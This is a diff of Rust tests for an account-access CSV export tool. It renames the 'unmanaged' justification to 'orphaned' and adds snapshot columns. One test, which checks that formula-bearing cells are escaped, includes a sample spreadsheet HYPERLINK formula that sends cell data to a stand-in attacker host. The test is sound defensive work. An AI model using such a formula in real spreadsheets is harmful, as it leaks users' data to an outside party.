@@ -1,5 +1,5 @@
 //! `seatwarden export access`: from the demo's stored state, every account with the
-//! identity and mapping behind it, or "unmanaged".
+//! identity and mapping behind it, or why none (`orphaned`, `disputed`, `protected`).
 #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
 
 use std::process::Command;
@@ -17,7 +17,7 @@ async fn access_export_justifies_every_account() {
     )
     .unwrap();
     let store = Store::open(&config.state.path).unwrap();
-    let export = seatwarden::export::access(&store, &config.policy_settings()).unwrap();
+    let export = seatwarden::export::access(&store, &config).unwrap();
 
     let workspace = store
         .load_workspace_snapshot(export.run_id)
@@ -36,7 +36,7 @@ async fn access_export_justifies_every_account() {
             .unwrap_or_else(|| panic!("{user} not exported"))
     };
     let handmade = row("freelancer.max@gmail.com");
-    assert_eq!(handmade.justification, "unmanaged");
+    assert_eq!(handmade.justification, "orphaned");
     assert_eq!(handmade.identity_id, None);
     let leaver = row("olivia.haddad@example.com");
     assert!(!leaver.active, "deactivated by the demo's reconcile");
@@ -78,7 +78,9 @@ async fn access_export_justifies_every_account() {
             "identity_user_name",
             "identity_status",
             "justification",
-            "last_change"
+            "last_change",
+            "snapshot_at",
+            "applied_through"
         ]
     );
     assert_eq!(reader.records().count(), export.accounts.len());
@@ -148,6 +150,7 @@ fn csv_cells_a_spreadsheet_would_run_are_exported_as_text() {
     let export = AccessExport {
         run_id: 7,
         snapshot_at: chrono::Utc::now(),
+        applied_through: None,
         accounts: vec![AccessRow {
             account_id: "a1".into(),
             user_name: "@evil".into(),
@@ -160,7 +163,7 @@ fn csv_cells_a_spreadsheet_would_run_are_exported_as_text() {
             identity_id: None,
             identity_user_name: None,
             identity_status: None,
-            justification: "unmanaged".into(),
+            justification: "orphaned".into(),
             last_change: None,
         }],
     };
@@ -173,7 +176,7 @@ fn csv_cells_a_spreadsheet_would_run_are_exported_as_text() {
         &row[4],
         "'=HYPERLINK(\"https://evil.example/?\"&B2,\"x\");Finance"
     );
-    assert_eq!(&row[8], "unmanaged");
+    assert_eq!(&row[8], "orphaned");
     assert!(export.to_json().contains("\"user_name\": \"@evil\""));
 }
 
@@ -274,7 +277,7 @@ fn a_deactivated_leavers_account_is_not_due_for_removal() {
         )
         .unwrap();
 
-    let export = seatwarden::export::access(&store, &config.policy_settings()).unwrap();
+    let export = seatwarden::export::access(&store, &config).unwrap();
     let justification = |id: &str| {
         export
             .accounts
